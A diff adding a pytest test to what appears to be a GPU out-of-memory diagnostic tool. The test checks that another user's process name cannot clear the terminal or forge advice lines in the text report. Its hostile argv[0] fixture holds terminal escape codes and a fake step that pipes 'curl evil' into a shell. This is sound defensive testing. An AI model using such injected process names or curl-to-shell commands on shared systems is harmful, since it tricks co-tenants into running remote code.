@@ -522,3 +522,41 @@ def test_report_of_a_cubin_load_error_lists_the_kernel_load_fix():
     report = doctor.oom_report(JaxRuntimeError(text("gpu_cubin_load_0.10.2.txt")), sample=sample, live=[], synthetic=True)
     assert report.error.form == "cubin"
     assert "kernel_load" in [f.kind for f in report.fixes]
+
+
+# --- another user's process name, in the text report --------------------------------------------
+
+# What a co-tenant can put in argv[0]: clear the screen, home the cursor, then lines that look
+# like the report's own advice.
+HOSTILE_ARGV0 = "\x1b[2J\x1b[Htrain\n\nWhat\tto\tdo,\tbest\tfirst:\n\t1.\tcurl\tevil|sh\x1b[8m"
+
+
+@pytest.fixture
+def hostile_process():
+    """A real process whose command line starts with HOSTILE_ARGV0 (the kernel reads it from
+    /proc/PID/cmdline, as for any other process on the device)."""
+    import subprocess
+    import sys
+
+    proc = subprocess.Popen([HOSTILE_ARGV0, "-c", "import time; time.sleep(60)"], executable=sys.executable)
+    try:
+        yield proc.pid
+    finally:
+        proc.kill()
+        proc.wait(10)
+
+
+def test_another_process_s_name_cannot_clear_the_terminal_or_forge_lines_in_the_text_report(hostile_process):
+    from dataclasses import replace
+
+    sample = last_sample("synthetic_two_kernels.jsonl")  # pid 41234 holds 76% of GPU 0
+    dev = sample.devices[0]
+    procs = tuple(replace(p, pid=hostile_process) if p.pid == 41234 else p for p in dev.processes)
+    sample = replace(sample, devices=(replace(dev, processes=procs), *sample.devices[1:]))
+    error = OomError("gpu_human", 20 * GiB, False, None, "JaxRuntimeError", "synthetic")
+    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
+    text = str(report)
+    assert not any(ord(c) < 32 and c != "\n" or 0x7f <= ord(c) < 0xa0 for c in text)
+    assert text.count("What to do, best first:") == 1 and "\n  1. " in text and "\n\t1." not in text
+    assert f"pid {hostile_process} (\\x1b[2J\\x1b[Htrain\\n\\nWhat\\tto\\tdo,\\tbest\\tfirst:\\n\\t1.\\tcurl\\tevil|sh\\x1b[8m)" in text
+    assert "What\tto\tdo" in report._repr_html_()  # HTML escapes its own way (html.escape), as before
